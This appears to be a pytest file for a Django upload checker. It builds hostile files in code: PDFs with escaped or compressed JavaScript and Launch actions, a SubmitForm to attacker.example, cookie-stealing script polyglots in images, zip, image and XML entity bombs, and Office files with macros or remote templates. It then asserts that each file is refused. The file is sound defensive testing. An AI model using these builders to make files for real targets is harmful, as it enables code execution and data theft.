"""The hostile-file catalogue (issue 19): files built here, in code, the way an attacker or a careless
exporter would build them, each with the answer it must get — refused with its Chinese message, or
stored cleaned. Clean files of every kind pass, so a check that refuses everything fails here too.

PDFs are written byte by byte (``tests.factories.pdf_file``: a real cross-reference table, so the
library opens them) or with pypdf and fpdf2; images with Pillow; Office files with zipfile and openpyxl.
"""

from __future__ import annotations

import hashlib
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django_tenants.utils import tenant_context
from fpdf import FPDF
from openpyxl import Workbook
from PIL import ExifTags, Image
from pypdf import PdfWriter

from disclosure.models import Attachment
from disclosure.rules import ALLOWED_ATTACHMENTS
from inspection.services.spot_checks import PHOTO_TYPES
from tenants.errors import InvalidInput
from tenants.uploads import CheckedUpload, spreadsheet_check, upload_check, upload_store
from tests.conftest import login
from tests.factories import PDF_PAGES, draft, pdf_file

MB = 1024 * 1024

# --- PDFs, byte by byte ----------------------------------------------------------------------------


def with_catalogue(extra: bytes, more: dict[int, bytes] | None = None, page: bytes = b"") -> bytes:
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>", **PDF_PAGES, **(more or {})}
    if page:
        objects[3] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b" >>"
    return pdf_file(objects)


def incremental_update(base: bytes, objects: dict[int, bytes]) -> bytes:
    """``base`` with a second revision appended: new versions of ``objects``, a cross-reference
    section for them and a trailer pointing back at the first one (/Prev)."""
    prev = int(base.rsplit(b"startxref", 1)[1].split()[0])
    size = int(base.rsplit(b"/Size", 1)[1].split()[0])
    out = BytesIO(base)
    out.seek(0, 2)
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n")
    for number in sorted(objects):
        out.write(b"%d 1\n%010d 00000 n \n" % (number, offsets[number]))
    size = max(size, max(objects) + 1)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, prev, xref))
    return out.getvalue()


def object_stream_pdf(packed: bytes, *, catalogue: bytes, page: bytes = b"", flate: bool) -> bytes:
    """A PDF 1.5 whose object 4 (``packed``) lives only inside object stream 5, found through a
    cross-reference stream (object 6): no byte of object 4 is in the file as written unless
    ``flate`` is off."""
    header = b"4 0 "
    content = header + packed
    data = zlib.compress(content) if flate else content
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
        2: PDF_PAGES[2],
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + page + b" >>",
        5: b"<< /Type /ObjStm /N 1 /First %d /Length %d%s >>\nstream\n"
        % (len(header), len(data), b" /Filter /FlateDecode" if flate else b"")
        + data
        + b"\nendstream",
    }
    out = BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n")
    offsets[6] = out.tell()
    rows = b"\x00\x00\x00\x00\x00\xff\xff"
    for number in range(1, 7):
        if number == 4:
            rows += b"\x02" + struct.pack(">I", 5) + struct.pack(">H", 0)
        else:
            rows += b"\x01" + struct.pack(">I", offsets[number]) + b"\x00\x00"
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(rows)
        + rows
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[6])
    return out.getvalue()


def pypdf_file(build: Callable[[PdfWriter], object]) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    build(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def fpdf_file() -> bytes:
    """A real document as the app's own PDF library writes it: compressed content, a font, a link."""
    doc = FPDF()
    doc.add_page()
    doc.set_font("helvetica", size=12)
    doc.cell(text="Receipt 2026-11", link="https://example.org/receipt")
    return bytes(doc.output())


CLEAN_PDF = with_catalogue(b"")
JS_OPEN = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"

# --- images --------------------------------------------------------------------------------------------


def png(size: tuple[int, int] = (4, 3), **options: object) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, "PNG", **options)
    return out.getvalue()


def jpeg(**options: object) -> bytes:
    out = BytesIO()
    Image.new("RGB", (16, 12), (30, 120, 200)).save(out, "JPEG", quality=90, **options)
    return out.getvalue()


def gps_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0112] = 6  # Orientation: rotate 90° to show
    exif[ExifTags.IFD.GPSInfo] = {1: "N", 2: (38.0, 28.0, 1.5), 3: "E", 4: (106.0, 16.0, 2.0)}
    return exif.tobytes()


def bomb_png() -> bytes:
    """A PNG header claiming 100,000 × 100,000 pixels (ten billion) in a few dozen bytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


# --- Office files -------------------------------------------------------------------------------------

CT = "[Content_Types].xml"


def xlsx() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["户主", "金额"])
    sheet.append(["张三", 1200])
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def rezipped(
    data: bytes,
    *,
    add: dict[str, bytes] | None = None,
    edit: dict[str, Callable[[bytes], bytes]] | None = None,
) -> bytes:
    """The archive ``data`` written again with parts added or changed."""
    source = zipfile.ZipFile(BytesIO(data))
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for part in source.infolist():
            body = source.read(part)
            if edit and part.filename in edit:
                body = edit[part.filename](body)
            target.writestr(part.filename, body)
        for name, body in (add or {}).items():
            target.writestr(name, body)
    return out.getvalue()


def xlsm() -> bytes:
    return rezipped(
        xlsx(),
        add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name" * 20},
        edit={CT: lambda b: b.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")},
    )


def xlsx_external_link() -> bytes:
    rel = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLinkPath" Target="file:///\\\\attacker\\share\\book.xlsx" TargetMode="External"/>'
        b"</Relationships>"
    )
    return rezipped(
        xlsx(),
        add={
            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": rel,
        },
    )


def xlsx_zip_bomb() -> bytes:
    """A workbook-shaped archive whose one sheet unpacks from about 100 KB to 100 MB."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(CT, b'<?xml version="1.0"?><Types/>')
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"<c><v>0</v></c>" * (100 * MB // 15))
    return out.getvalue()


def xlsx_lying_sizes() -> bytes:
    """A zip bomb whose directory claims each part is tiny: the part's declared size is patched
    down, so only the reader's refusal to unpack past it keeps memory bounded."""
    bomb = xlsx_zip_bomb()
    real = struct.pack("<I", 100 * MB // 15 * 15)
    return bomb.replace(real, struct.pack("<I", 4096))


def xlsx_with_entities() -> bytes:
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
        b"<si><t>&lol2;</t></si></sst>"
    )
    return rezipped(xlsx(), add={"xl/sharedStrings.xml": laughs})


def docx(*, rels: bytes = b"", parts: dict[str, bytes] | None = None) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            CT,
            b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Default Extension="rels" '
            b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            b'<Default Extension="xml" ContentType="application/xml"/>'
            b'<Override PartName="/word/document.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            b"</Types>",
        )
        archive.writestr(
            "_rels/.rels",
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        archive.writestr(
            "word/document.xml",
            b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
            b'2006/main"><w:body><w:p><w:r><w:t>Self-report</w:t></w:r></w:p></w:body></w:document>',
        )
        archive.writestr(
            "word/_rels/document.xml.rels",
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/hyperlink" Target="https://example.org/" TargetMode="External"/>'
            + rels
            + b"</Relationships>",
        )
        for name, body in (parts or {}).items():
            archive.writestr(name, body)
    return out.getvalue()


REMOTE_TEMPLATE = (
    b'<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
)

# --- the catalogue ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    label: str
    name: str
    build: Callable[[], bytes]
    answer: str  # the refusal's words
    check: str = "attachment"  # which door it comes through: attachment, photo, spreadsheet


PDF_REFUSED = "这个 PDF 里带有"
CATALOGUE = [
    Hostile(
        "PDF: escaped /J#61vaScript open action",
        "通知.pdf",
        lambda: with_catalogue(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        "这个 PDF 里带有打开时自动运行的脚本(JavaScript)",
    ),
    Hostile(
        "PDF: escaped /L#61unch open action",
        "说明.pdf",
        lambda: with_catalogue(b"/OpenAction << /S /L#61unch /F (calc.exe) >>"),
        "打开时自动执行的启动电脑上其他程序的动作(Launch)",
    ),
    Hostile(
        "PDF: JavaScript inside an object stream",
        "报表.pdf",
        lambda: object_stream_pdf(
            b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>", catalogue=b"/OpenAction 4 0 R", flate=False
        ),
        "打开时自动运行的脚本(JavaScript)",
    ),
    Hostile(
        "PDF: FlateDecode-compressed object, escaped names, page's additional action",
        "公示.pdf",
        lambda: object_stream_pdf(
            b"<< /#53 /#4A#61v#61#53cript /#4A#53 (this.submitForm\\(\\)) >>",
            catalogue=b"",
            page=b"/AA << /O 4 0 R >>",
            flate=True,
        ),
        "打开时自动运行的脚本(JavaScript)",
    ),
    Hostile(
        "PDF: a link's Launch packed in a compressed object stream",
        "通讯录.pdf",
        lambda: object_stream_pdf(
            b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /L#61unch /F (calc.exe) >> >>",
            catalogue=b"",
            page=b"/Annots [4 0 R]",
            flate=True,
        ),
        "这个 PDF 里带有启动电脑上其他程序的动作(Launch)",
    ),
    Hostile(
        "PDF: incremental update adds an open action",
        "签字版.pdf",
        lambda: incremental_update(
            CLEAN_PDF,
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                4: b"<< /S /JavaScript /JS 5 0 R >>",
                5: b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
            },
        ),
        "打开时自动运行的脚本(JavaScript)",
    ),
    Hostile(
        "PDF: JavaScript left in an earlier revision",
        "更正版.pdf",
        lambda: incremental_update(with_catalogue(JS_OPEN), {1: b"<< /Type /Catalog /Pages 2 0 R >>"}),
        "脚本(JavaScript)",
    ),
    Hostile(
        "PDF: document-level JavaScript in the name tree",
        "名单.pdf",
        lambda: with_catalogue(
            b"/Names << /JavaScript << /Names [(init) 4 0 R] >> >>",
            {4: b"<< /S /JavaScript /JS (app.launchURL\\('http://x'\\)) >>"},
        ),
        "脚本(JavaScript)",
    ),
    Hostile(
        "PDF: javascript: link written as a hex string",
        "链接.pdf",
        lambda: with_catalogue(
            b"",
            page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] "
            b"/A << /S /URI /URI <%s> >> >>]" % b"  JavaScript:alert(1)".hex().encode(),
        ),
        "脚本(JavaScript)",
    ),
    Hostile(
        "PDF: Launch behind a link",
        "目录.pdf",
        lambda: with_catalogue(
            b"",
            page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /Launch /Win << /F (cmd.exe) >> >> >>]",
        ),
        "启动电脑上其他程序的动作(Launch)",
    ),
    Hostile(
        "PDF: SubmitForm",
        "表单.pdf",
        lambda: with_catalogue(
            b"",
            page=b"/Annots [<< /Subtype /Widget /FT /Btn /Rect [0 0 9 9] "
            b"/A << /S /SubmitForm /F << /FS /URL /F (http://attacker.example/) >> >> >>]",
        ),
        "把填写的内容发送到网上的动作(SubmitForm)",
    ),
    Hostile(
        "PDF: ImportData on open",
        "导入.pdf",
        lambda: with_catalogue(b"/OpenAction << /S /ImportData /F (\\\\\\\\host\\\\share\\\\x.fdf) >>"),
        "打开时自动执行的从其他文件导入数据的动作(ImportData)",
    ),
    Hostile(
        "PDF: GoToR to another file",
        "附表.pdf",
        lambda: with_catalogue(
            b"",
            page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\host\\\\x.pdf) "
            b"/D [0 /Fit] >> >>]",
        ),
        "打开其他文件的链接(GoToR)",
    ),
    Hostile(
        "PDF: GoToE into an embedded document",
        "合订.pdf",
        lambda: with_catalogue(b"/OpenAction << /S /GoToE /T << /R /C /N (inner.pdf) >> /D [0 /Fit] >>"),
        "打开内嵌文档的链接(GoToE)",
    ),
    Hostile(
        "PDF: embedded file (pypdf attachment)",
        "报销.pdf",
        lambda: pypdf_file(lambda w: w.add_attachment("invoice.exe", b"MZ\x90\x00payload")),
        "夹带的其他文件(嵌入附件)",
    ),
    Hostile(
        "PDF: file-attachment annotation",
        "附件.pdf",
        lambda: with_catalogue(
            b"",
            {4: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"},
            page=b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe) "
            b"/EF << /F 4 0 R >> >> >>]",
        ),
        "夹带的其他文件(嵌入附件)",
    ),
    Hostile(
        "PDF: XFA form",
        "申请表.pdf",
        lambda: with_catalogue(
            b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>",
            {4: b"<< /Length 11 >>\nstream\n<template/>\nendstream"},
        ),
        "可以运行脚本的动态表单(XFA)",
    ),
    Hostile(
        "PDF: RichMedia (Flash) annotation",
        "宣传.pdf",
        lambda: with_catalogue(
            b"",
            page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << >> >> >>]",
        ),
        "Flash 等多媒体程序(RichMedia)",
    ),
    Hostile(
        "PDF: encrypted",
        "加密.pdf",
        lambda: pypdf_file(
            lambda w: w.encrypt(user_password="", owner_password="secret", algorithm="RC4-128")
        ),
        "设置了密码或加密,无法检查其中的内容,不能上传。请去掉密码后重新导出 PDF 再上传",
    ),
    Hostile(
        "PDF: truncated halfway",
        "残缺.pdf",
        lambda: fpdf_file()[: len(fpdf_file()) // 2],
        "无法作为 PDF 打开",
    ),
    Hostile(
        "PDF: header with an HTML page inside (polyglot)",
        "扫描件.pdf",
        lambda: b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF",
        "夹带了网页脚本",
    ),
    Hostile(
        "HTML page renamed .pdf", "通知.pdf", lambda: b"<html><script>alert(1)</script></html>", "内容不符"
    ),
    Hostile(
        "SVG with script",
        "照片.svg",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
        "内容不符",
    ),
    Hostile(
        "polyglot JPEG/HTML (markup in the JPEG comment)",
        "照片.jpg",
        lambda: jpeg(comment=b"<html><body><script>alert(document.cookie)</script></body></html>"),
        "既是图片又是网页",
    ),
    Hostile(
        "polyglot PNG/SVG (markup in a text chunk)",
        "图.png",
        lambda: png(pnginfo=_text_chunk(b'<svg onload="alert(1)">')),
        "既是图片又是网页",
    ),
    Hostile(
        "decompression-bomb PNG",
        "大图.png",
        bomb_png,
        "像素数异常巨大",
    ),
    Hostile("truncated JPEG", "半张.jpg", lambda: jpeg()[:200], "已损坏或不完整"),
    Hostile("decompression-bomb PNG as a photo", "现场.png", bomb_png, "像素数异常巨大", check="photo"),
    Hostile(
        "Word file with a remote template",
        "自查报告.docx",
        lambda: docx(rels=REMOTE_TEMPLATE),
        "带有指向其他文件或网络模板的外部链接",
    ),
    Hostile(
        "Word file with macros",
        "自查报告.docx",
        lambda: docx(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 64}),
        "带有宏(VBA 代码)",
    ),
    Hostile(
        "Word file with an OLE package",
        "说明.docx",
        lambda: docx(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 64}),
        "嵌入了其他程序的对象",
    ),
    Hostile("xlsm (macros) as an attachment", "账目.xlsx", xlsm, "带有宏(VBA 代码)"),
    Hostile("xlsm (macros) for import", "账目.xlsm", xlsm, "带有宏(VBA 代码)", check="spreadsheet"),
    Hostile("xlsx with an external link", "花名册.xlsx", xlsx_external_link, "外部链接", check="spreadsheet"),
    Hostile("zip bomb disguised as .xlsx", "财务.xlsx", xlsx_zip_bomb, "压缩炸弹", check="spreadsheet"),
    Hostile("zip bomb disguised as .xlsx, attached", "财务.xlsx", xlsx_zip_bomb, "压缩炸弹"),
    Hostile(
        "zip bomb whose directory lies about its sizes",
        "财务.xlsx",
        xlsx_lying_sizes,
        "无法作为 Office 文件打开",
        check="spreadsheet",
    ),
    Hostile(
        "xlsx with an entity bomb (DTD)", "名单.xlsx", xlsx_with_entities, "XML 实体声明", check="spreadsheet"
    ),
    Hostile(
        "encrypted or old binary Excel",
        "名单.xls",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        "旧版 Excel(xls)或加密",
        check="spreadsheet",
    ),
    Hostile(
        "a PDF offered as a spreadsheet", "名单.xlsx", fpdf_file, "只能是 Excel(xlsx)", check="spreadsheet"
    ),
]


def _text_chunk(text: bytes):  # type: ignore[no-untyped-def]
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", text.decode())
    return info


def check(case: Hostile, payload: bytes) -> object:
    upload = SimpleUploadedFile(case.name, payload)
    if case.check == "spreadsheet":
        return spreadsheet_check(upload, what="表格")
    if case.check == "photo":
        return upload_check(upload, allowed=PHOTO_TYPES, max_bytes=10 * MB, what="照片", keep_location=True)
    return upload_check(upload, allowed=ALLOWED_ATTACHMENTS, max_bytes=10 * MB, what="附件")


def test_the_catalogue_holds_at_least_25_hostile_files():
    assert len(CATALOGUE) >= 25
    assert len({c.label for c in CATALOGUE}) == len(CATALOGUE)


@pytest.mark.parametrize("case", CATALOGUE, ids=[c.label for c in CATALOGUE])
def test_a_hostile_file_is_refused_with_its_chinese_message(case: Hostile):
    with pytest.raises(InvalidInput) as refused:
        check(case, case.build())
    assert case.answer in refused.value.message, refused.value.message


def test_the_escaped_pdf_names_are_what_the_old_byte_grep_missed():
    """The two PDFs of the issue hold none of the names a grep looked for: only decoding finds them."""
    import re

    old_grep = re.compile(rb"/(JavaScript|JS|Launch|EmbeddedFile|RichMedia)(?![A-Za-z0-9])")
    for case in CATALOGUE[:2]:
        assert not old_grep.search(case.build())
    assert not old_grep.search(CATALOGUE[3].build())  # the compressed object stream


# --- what passes, and what is stored -------------------------------------------------------------------

CLEAN = [
    ("a PDF written by the app's own PDF library, with a web link", "收据.pdf", fpdf_file),
    ("a minimal PDF", "a.pdf", lambda: CLEAN_PDF),
    ("a PDF with an internal go-to link", "b.pdf", lambda: with_catalogue(b"/OpenAction [3 0 R /Fit]")),
    ("a PDF written by pypdf", "c.pdf", lambda: pypdf_file(lambda w: None)),
    ("a Word file with a hyperlink", "d.docx", docx),
    ("an Excel file", "e.xlsx", xlsx),
]


@pytest.mark.parametrize("label,name,build", CLEAN, ids=[c[0] for c in CLEAN])
def test_an_ordinary_file_passes_and_is_stored_as_uploaded(label, name, build):
    payload = build()
    checked = upload_check(
        SimpleUploadedFile(name, payload), allowed=ALLOWED_ATTACHMENTS, max_bytes=10 * MB, what="附件"
    )
    assert checked.content == payload
    assert checked.sha256 == hashlib.sha256(payload).hexdigest() and checked.size == len(payload)


def attach(payload: bytes, *, keep_location: bool = False, name: str = "x.png") -> CheckedUpload:
    return upload_check(
        SimpleUploadedFile(name, payload),
        allowed=ALLOWED_ATTACHMENTS,
        max_bytes=10 * MB,
        what="附件",
        keep_location=keep_location,
    )


def test_a_png_with_an_html_tail_is_stored_drawn_again_without_it():
    original = png()
    checked = attach(original + b"<html><script>alert(document.cookie)</script></html>")
    assert b"<script" not in checked.content and b"<html" not in checked.content
    assert checked.sha256 == hashlib.sha256(checked.content).hexdigest() and checked.size == len(
        checked.content
    )
    stored = Image.open(BytesIO(checked.content))
    assert stored.format == "PNG" and stored.tobytes() == Image.open(BytesIO(original)).tobytes()


def test_a_jpeg_loses_its_gps_and_metadata_as_an_attachment_but_keeps_its_orientation():
    checked = attach(jpeg(exif=gps_exif(), comment=b"taken at home"), name="x.jpg")
    exif = Image.open(BytesIO(checked.content)).getexif()
    assert exif.get_ifd(ExifTags.IFD.GPSInfo) == {}
    assert 0x010F not in exif and b"taken at home" not in checked.content
    assert exif[0x0112] == 6


def test_a_spot_check_photo_keeps_its_gps_as_evidence_and_nothing_else():
    photo = jpeg(exif=gps_exif(), comment=b"taken at home")
    checked = upload_check(
        SimpleUploadedFile("现场.jpg", photo),
        allowed=PHOTO_TYPES,
        max_bytes=10 * MB,
        what="照片",
        keep_location=True,
    )
    exif = Image.open(BytesIO(checked.content)).getexif()
    assert exif.get_ifd(ExifTags.IFD.GPSInfo)[2] == (38.0, 28.0, 1.5)
    assert 0x010F not in exif and b"taken at home" not in checked.content


def test_the_spot_check_service_stores_the_cleaned_photo_with_its_gps(world, settings, tmp_path):
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from inspection import services as inspection_services
    from inspection.models import SpotCheck, SpotCheckPhoto

    settings.MEDIA_ROOT = tmp_path
    draw = inspection_services.spot_check_draw(
        street_office=world.yinzhou,
        period="2026-11",
        sample_size=1,
        actor=world.user("yinzhou_inspector"),
        seed="uploads",
    )
    spot_check = SpotCheck.objects.get(draw=draw)
    photo = jpeg(exif=gps_exif(), comment=b"camera serial 123")
    inspection_services.spot_check_record(
        spot_check=spot_check,
        actor=world.user("yinzhou_inspector"),
        visited_at=datetime(2026, 11, 20, 10, tzinfo=ZoneInfo("Asia/Shanghai")),
        checklist={"board_current": True, "display_window_kept": True, "opinion_box": True},
        photos=[SimpleUploadedFile("现场.jpg", photo)],
    )
    record = SpotCheckPhoto.objects.get(spot_check=spot_check)
    stored = Path(record.image.path).read_bytes()
    assert record.sha256 == hashlib.sha256(stored).hexdigest() != hashlib.sha256(photo).hexdigest()
    assert b"camera serial" not in stored
    assert Image.open(BytesIO(stored)).getexif().get_ifd(ExifTags.IFD.GPSInfo)[1] == "N"


def test_an_attachment_is_stored_cleaned_and_its_hash_is_of_what_is_stored(
    world, in_yincheng, settings, tmp_path
):
    from disclosure import services

    settings.MEDIA_ROOT = tmp_path
    photo = jpeg(exif=gps_exif())
    attachment = services.attachment_add(
        disclosure=draft(world),
        actor=world.user("yincheng_handler"),
        upload=SimpleUploadedFile("门牌.jpg", photo),
    )
    stored = Path(attachment.file.path).read_bytes()
    assert attachment.sha256 == hashlib.sha256(stored).hexdigest() and attachment.size == len(stored)
    assert Image.open(BytesIO(stored)).getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}


def test_storing_takes_only_a_checked_upload():
    from disclosure.models import Attachment as Model

    with pytest.raises(TypeError):
        upload_store(Model().file, "x.png", SimpleUploadedFile("x.png", png()))  # type: ignore[arg-type]


def test_a_checked_spreadsheet_is_opened_read_only_with_values_only():
    payload = xlsx()
    checked = spreadsheet_check(SimpleUploadedFile("花名册.xlsx", payload))
    rows = [list(r) for r in checked.workbook.active.iter_rows(values_only=True)]  # type: ignore[union-attr]
    assert rows == [["户主", "金额"], ["张三", 1200]]
    assert checked.workbook.read_only
    assert checked.sha256 == hashlib.sha256(payload).hexdigest() and checked.size == len(payload)
    checked.workbook.close()


# --- end to end: the real attachment page ----------------------------------------------------------------


@pytest.mark.django_db
def test_the_escaped_javascript_pdf_is_refused_on_the_attachment_page_and_nothing_is_stored(
    world, client_for
):
    from django.core.files.storage import default_storage

    payload = CATALOGUE[0].build()
    with tenant_context(world.yincheng):
        d = draft(world)
        before = d.content_hash
    client = client_for("yincheng")
    login(client, "yincheng_handler")
    response = client.post(
        f"/workspace/disclosures/{d.pk}/attach/",
        {"upload": SimpleUploadedFile("通知.pdf", payload)},
        follow=True,
    )
    shown = " ".join(str(m) for m in response.context["messages"])
    assert response.status_code == 400  # the draft's page again, saying why
    assert "附件不能上传:这个 PDF 里带有打开时自动运行的脚本(JavaScript)" in shown
    assert "附件已上传" not in shown
    with tenant_context(world.yincheng):
        assert not Attachment.objects.filter(disclosure=d).exists()
        d.refresh_from_db()
        assert d.content_hash == before
    root = Path(default_storage.path("probe")).parents[1]
    assert [p for p in root.rglob(f"*{hashlib.sha256(payload).hexdigest()[:16]}*") if p.is_file()] == []


def _with_metadata(fmt: str) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SecretMaker"
    out = BytesIO()
    if fmt == "GIF":
        Image.new("P", (4, 4)).save(out, "GIF", comment=b"SecretComment")
    else:
        Image.new("RGB", (4, 4)).save(out, fmt, exif=exif.tobytes(), xmp=b"<x:xmpmeta>SecretXmp</x:xmpmeta>")
    return out.getvalue()


@pytest.mark.parametrize("fmt,mime", [("WEBP", "image/webp"), ("GIF", "image/gif"), ("PNG", "image/png")])
def test_every_allowed_image_format_is_drawn_again_without_its_metadata_or_tail(fmt, mime):
    original = _with_metadata(fmt)
    assert b"Secret" in original
    checked = upload_check(
        SimpleUploadedFile("x", original + b"\x00tail-bytes"), allowed={mime: fmt}, max_bytes=MB, what="图片"
    )
    assert checked.mime == mime and Image.open(BytesIO(checked.content)).format == fmt
    assert b"Secret" not in checked.content and b"tail-bytes" not in checked.content
